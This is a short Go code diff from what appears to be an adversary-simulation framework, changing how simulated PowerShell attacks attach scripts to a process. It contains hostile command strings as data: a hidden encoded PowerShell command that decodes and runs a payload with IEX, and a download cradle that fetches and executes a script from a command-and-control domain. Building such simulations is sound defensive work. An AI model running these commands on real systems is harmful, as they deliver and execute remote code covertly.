@@ -126,12 +126,12 @@ func runPowerShell(a *Attempt) Progress {
 	switch a.Tool {
 	case "encoded command":
 		script := "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'));IEX (New-Object IO.StreamReader($s)).ReadToEnd()"
-		a.start(f, world.PowerShell, "powershell.exe -nop -w hidden -enc "+encoded(script))
-		a.World.RunScript(a.Now+time.Second, a.Actor, f.Host, script)
+		p := a.start(f, world.PowerShell, "powershell.exe -nop -w hidden -enc "+encoded(script))
+		a.World.RunScript(a.Now+time.Second, a.Actor, p, script)
 	case "download cradle":
 		script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/a')", c2.Domain)
 		p := a.start(f, world.PowerShell, `powershell.exe -c "`+script+`"`)
-		a.World.RunScript(a.Now+time.Second, a.Actor, f.Host, script)
+		a.World.RunScript(a.Now+time.Second, a.Actor, p, script)
 		if r := a.World.Reach(world.At(f.Host), c2, 443); !r.OK() {
 			return blocked(r)
 		}
